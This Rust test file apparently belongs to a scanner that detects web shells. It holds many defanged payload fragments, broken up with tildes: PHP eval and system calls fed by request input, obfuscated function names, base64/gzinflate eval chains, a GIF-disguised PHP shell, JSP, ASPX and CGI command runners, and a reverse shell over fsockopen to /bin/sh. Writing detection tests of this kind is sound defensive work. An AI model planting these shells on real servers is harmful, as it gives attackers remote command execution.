//! Tests on fragments that can not run: each has a tilde in the words that matter, which is taken out before the look.

use super::*;

fn seen(name: &str, text: &str) -> Vec<&'static str> {
    let text = text.replace('~', "");
    let found = signals(text.as_bytes(), Language::of(name.as_bytes(), text.as_bytes()));
    found.keys().filter(|signal| **signal != Signal::PhpCode).map(|signal| signal.name()).collect()
}

/// Fragments and the signal that must be among those seen.
const TELLING: &[(&str, &str, &str)] = &[
    ("a.php", "<?php @ev~al($_PO~ST['k']);", "input-evaluated"),
    ("a.php", "<?= ass~ert($_REQ~UEST['x']) ?>", "input-evaluated"),
    ("a.php", "<?php $c = base64_decode($_COO~KIE['c']); if ($c) { ev~al($c); }", "input-evaluated"),
    ("a.php", "<?php sys~tem($_G~ET['c'] . ' 2>&1');", "input-executed"),
    ("a.php", "<?php $c=$_SER~VER['HTTP_X_C']; echo `$c`;", "input-executed"),
    (
        "a.php",
        "<?php if(isset($_G~ET['c'])){ $o=shell_~exec(\"cd /tmp; {$_G~ET['c']}\"); echo $o; }",
        "input-executed",
    ),
    ("a.php", "<?php $p = proc_~open($_PO~ST['a'], array(), $pipes);", "input-executed"),
    ("a.php", "<?php function r($c){ return pass~thru($c); } r($_PO~ST['z']);", "input-executed"),
    (
        "a.php",
        "<?php go($_PO~ST['z']); function go($a){ low($a); } function low($b){ ev~al($b); }",
        "input-evaluated",
    ),
    ("a.php", "<?php $_G~ET['a']($_G~ET['b']);", "input-names-function"),
    ("a.php", "<?php $f=$_PO~ST['f']; $f($_PO~ST['a']);", "input-names-function"),
    ("a.php", "<?php call_user_~func($_G~ET['f'], $_G~ET['x']);", "input-names-function"),
    ("a.php", "<?php array_map('ass~ert', array($_PO~ST['x']));", "input-evaluated"),
    ("a.php", "<?php usort($_PO~ST, $_G~ET['f']);", "input-names-function"),
    ("a.php", "<?php $f = 'sys'.'~tem'; $f($_G~ET['c']);", "hidden-function"),
    ("a.php", "<?php $f = str~rev('met~sys'); $f($x);", "hidden-function"),
    ("a.php", "<?php $f = ch~r(101).chr(120).chr(101).chr(99); $f($x);", "hidden-function"),
    ("a.php", "<?php $f = \"\\x73\\x79\\x73~\\x74\\x65\\x6d\"; $f($_G~ET[1]);", "input-executed"),
    (
        "a.php",
        "<?php $a='abcdefghijklmnopqrstuvwxyz_'; $f=$a[4].$a[21].$a[0].$a[11]; $x = $f;",
        "hidden-function",
    ),
    ("a.php", "<?php ('sys'.'t~em')($_G~ET[1]);", "input-executed"),
    ("a.php", "<?php $v='_PO'.'~ST'; ev~al(${$v}['a']);", "hidden-input"),
    ("a.php", "<?php ev~al(gzin~flate(base64_~decode('c3Rvbmdl')));", "decoded-evaluated"),
    ("a.php", "<?php $z = base64_~decode($k); $y = gzun~compress($z); ev~al($y);", "decoded-evaluated"),
    ("a.php", "<?php preg_~replace('/.*/e', $_PO~ST['c'], '');", "input-evaluated"),
    (
        "a.php",
        "<?php $f = create_~function('', file_get_~contents('php://in~put')); $f();",
        "input-evaluated",
    ),
    ("a.php", "<?php incl~ude $_G~ET['p'];", "input-included"),
    ("a.php", "<?php incl~ude 'data:text/plain,' . $_PO~ST['p'];", "input-evaluated"),
    ("a.php", "<?php file_put_~contents($_PO~ST['n'], $_PO~ST['d']);", "input-written"),
    ("a.php", "<?php $h=fop~en($_G~ET['n'],'w'); fwr~ite($h, $_PO~ST['d']);", "input-written"),
    (
        "a.php",
        "<?php move_uploaded_~file($_FI~LES['f']['tmp_name'], $_FI~LES['f']['name']);",
        "upload-by-name",
    ),
    ("a.php", "<?php if (m~d5($_PO~ST['p'])=='5f4dcc3b5aa765d61d8327deb882cf99') {}", "digest-password"),
    (
        "a.php",
        "<?php $s=fsock~open('192.0.2.1',9); proc_~open('/bin/~sh -i', array($s), $p);",
        "shell-on-socket",
    ),
    ("a.php", "<?php foreach ($_PO~ST as $k => $v) { ev~al($v); }", "input-evaluated"),
    (
        "a.php",
        "<?php class A { function __destruct() { ev~al($this->p); } function x() { $this->p = $_PO~ST['a']; } }",
        "input-evaluated",
    ),
    ("a.php", "<?php extract($_PO~ST); ev~al($code);", "input-evaluated"),
    ("logo.gif", "GIF89a\x01\x02<?php @ev~al($_PO~ST[1]);", "input-evaluated"),
    ("a.jsp", "<% Runtime.getRuntime().ex~ec(request.getPara~meter(\"c\")); %>", "input-executed"),
    (
        "a.jsp",
        "<% String c = request.getPara~meter(\"c\");\nProcess p = new Process~Builder(\"sh\", \"-c\", c).start(); %>",
        "input-executed",
    ),
    ("a.aspx", "<script>ev~al(Req~uest.Item[\"z\"], \"unsafe\");</script>", "input-evaluated"),
    (
        "a.cgi",
        "#!/bin/bash\nCMD=$(echo \"$QUERY_~STRING\" | sed 's/c=//')\neval \"$CMD\"\n",
        "input-executed",
    ),
    ("a.cgi", "#!/bin/sh\nq=${QUERY_~STRING#*=}\necho\n$q\n", "input-executed"),
    ("a.pl", "#!/usr/bin/perl\nuse CGI;\nmy $c = par~am('c');\nprint `$c`;\n", "input-executed"),
    ("a.cgi", "#!/usr/bin/perl\nmy $q = $ENV{'QUERY_~STRING'};\nuse CGI; sys~tem($q);\n", "input-executed"),
    (
        "a.py",
        "import cgi, os\nc = cgi.Field~Storage().getvalue('c')\nprint(os.pop~en(c).read())\n",
        "input-executed",
    ),
];

#[test]
fn input_that_reaches_an_interpreter_is_seen() {
    for (name, text, signal) in TELLING {
        let seen = seen(name, text);
        assert!(seen.contains(signal), "{text}: {seen:?}");
    }
}

#[test]
fn everyday_scripts_say_nothing() {
    for (name, text) in [
        ("a.php", "<?php $id = (int) $_GET['id']; exec('/usr/bin/tool ' . $id);"),
        ("a.php", "<?php exec('convert ' . escapeshellarg($_POST['file']));"),
        ("a.php", "<?php echo htmlspecialchars($_GET['q']); $this->exec($_GET['q']); Db::exec($_POST['x']);"),
        ("a.php", "<?php assert($_GET['a'] instanceof Foo); assert(is_string($_POST['x']));"),
        ("a.php", "<?php $cb = $this->callback; $cb($_GET['x']); array_map('trim', $_POST);"),
        ("a.php", "<?php include __DIR__ . '/page.php'; require_once($base . 'x.php');"),
        (
            "a.php",
            "<?php // eval($_POST['a'])\n/* system($_GET['c']) */ $s = 'eval($_POST)'; # exec($_GET[1])",
        ),
        ("a.php", "<html><script>eval(location.hash)</script><?php echo 1; ?></html>"),
        (
            "a.php",
            "<?php $img = base64_decode($row['img']); file_put_contents($path, $img); eval($template);",
        ),
        ("a.php", "<?php $f = 'wp_' . 'head'; $f(); echo \"\\x1b[0m\", chr(10) . chr(13);"),
        ("a.php", "<?php if (md5($_POST['p']) === $user['hash']) { login(); }"),
        ("a.php", "<?php function run($cmd) { exec($cmd); } run('ls'); $x = $_POST['x'];"),
        (
            "a.php",
            "<?php if (preg_match('/^[a-z0-9_]+$/', $k = 1)) {} $k = $_GET['k']; if (preg_match('/^[a-z]+$/', $k)) exec($k);",
        ),
        ("a.cgi", "#!/bin/sh\ncase \"$QUERY_STRING\" in a) echo a;; esac\nresult=$(date)\n"),
        ("a.pl", "#!/usr/bin/perl\nuse CGI;\nmy $c = param('c');\neval { print $c; };\nsystem('date');\n"),
        ("a.py", "c = request.args.get('c')\nprint(c)\nos.system('date')\n"),
        ("a.jsp", "<% String c = request.getParameter(\"c\"); out.print(c); %>"),
    ] {
        assert_eq!(seen(name, text), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn long_encoded_texts_and_escaped_letters_are_seen() {
    let long: String = (0..1500_u32)
        .map(|n| char::from(b"ABCDEFGHIJKLMNOPabcdefghijkl0123456789+/"[(n * 7919 % 40) as usize]))
        .collect();
    assert_eq!(seen("a.php", &format!("<?php $d = '{long}'; ev~al(own($d));")), ["long-encoded"]);
    assert_eq!(seen("a.php", &format!("<?php $font = '{long}'; echo $font;")), Vec::<&str>::new());
    let escaped = "$a = \"\\x61\\x62\\x63\\x64\";".repeat(7);
    assert_eq!(seen("a.php", &format!("<?php {escaped}")), ["escaped-letters"]);
}
